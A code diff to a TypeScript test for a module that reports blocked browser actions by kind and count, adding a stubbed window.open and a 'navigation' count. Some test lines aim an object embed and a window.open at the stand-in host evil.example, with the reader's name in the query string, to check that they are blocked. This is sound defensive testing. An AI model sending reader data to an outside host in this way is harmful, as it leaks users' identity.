@@ -3,7 +3,11 @@ import type { FrameMessage } from '../bridge/frameMessages.ts'
 import { watchBlocked } from './watchBlocked.ts'
 
 const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie')!
-afterEach(() => void Object.defineProperty(Document.prototype, 'cookie', cookie))
+const { open } = window
+afterEach(() => {
+  Object.defineProperty(Document.prototype, 'cookie', cookie)
+  window.open = open
+})
 
 it('what the browser refuses is told by kind and count, and by nothing else', async () => {
   const refuse = (): never => {
@@ -14,6 +18,9 @@ it('what the browser refuses is told by kind and count, and by nothing else', as
   policy.httpEquiv = 'Content-Security-Policy'
   policy.content = "object-src 'none'"
   document.head.append(policy)
+
+  // As in a sandbox that allows no windows.
+  window.open = () => null
 
   const told: FrameMessage[] = []
   watchBlocked({ post: (message) => void told.push(message) })
@@ -26,6 +33,7 @@ it('what the browser refuses is told by kind and count, and by nothing else', as
     object.data = `https://evil.example/${name}?reader=Pat`
     document.body.append(object)
     expect(() => document.cookie).toThrow('no cookies here')
+    expect(window.open(`https://evil.example/${name}?reader=Pat`)).toBeNull()
   }
   // One that a plugin makes up.
   document.dispatchEvent(
@@ -41,6 +49,6 @@ it('what the browser refuses is told by kind and count, and by nothing else', as
   )
   const counts = () =>
     Object.fromEntries(told.map((one) => ('what' in one ? [one.what, one.count] : [])))
-  await expect.poll(counts).toEqual({ frame: 2, storage: 2 })
+  await expect.poll(counts).toEqual({ frame: 2, storage: 2, navigation: 2 })
   expect(JSON.stringify(told)).not.toContain('evil')
 })
